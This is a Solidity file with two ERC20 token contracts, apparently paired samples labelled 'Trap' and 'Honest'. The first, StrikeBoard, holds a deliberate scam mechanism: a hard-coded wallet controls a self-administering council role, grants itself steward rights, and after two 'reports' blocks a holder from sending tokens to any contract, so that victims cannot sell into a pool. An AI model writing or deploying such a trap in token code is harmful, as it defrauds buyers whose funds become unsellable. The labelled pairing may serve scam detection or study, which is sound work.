// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

// Trap: the self-administered COUNCIL is a wallet fixed in the code; it makes itself STEWARD and reports a holder in two blocks, who then cannot send to any contract (the pool).
contract StrikeBoard is ERC20, AccessControl {
    bytes32 public constant COUNCIL = keccak256("COUNCIL");
    bytes32 public constant STEWARD = keccak256("STEWARD");

    struct File {
        uint8 strikes;
        uint64 lastBlock;
    }

    mapping(address => File) private _files;

    event Reported(address indexed who, uint8 strikes);

    error UnderReview(address who);

    constructor() ERC20("Community Board", "BOARD") {
        _setRoleAdmin(STEWARD, COUNCIL);
        _setRoleAdmin(COUNCIL, COUNCIL);
        _grantRole(COUNCIL, 0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65);
        _mint(msg.sender, 500_000_000 ether);
    }

    function report(address who) external onlyRole(STEWARD) {
        require(who.code.length == 0, "pools are protected");
        File storage file = _files[who];
        require(block.number > file.lastBlock, "one a block");
        file.strikes++;
        file.lastBlock = uint64(block.number);
        emit Reported(who, file.strikes);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to.code.length > 0 && _files[from].strikes >= 2) revert UnderReview(from);
        super._update(from, to, value);
    }
}

// Honest: the same board, but nobody is of the council or an admin, so that no role can ever be given.
contract StrikeBoardEmpty is ERC20, AccessControl {
    bytes32 public constant COUNCIL = keccak256("COUNCIL");
    bytes32 public constant STEWARD = keccak256("STEWARD");
    mapping(address => uint8) private _strikes;

    error UnderReview(address who);

    constructor() ERC20("Community Board", "BOARD") {
        _setRoleAdmin(STEWARD, COUNCIL);
        _setRoleAdmin(COUNCIL, COUNCIL);
        _mint(msg.sender, 500_000_000 ether);
    }

    function report(address who) external onlyRole(STEWARD) {
        _strikes[who]++;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to.code.length > 0 && _strikes[from] >= 2) revert UnderReview(from);
        super._update(from, to, value);
    }
}
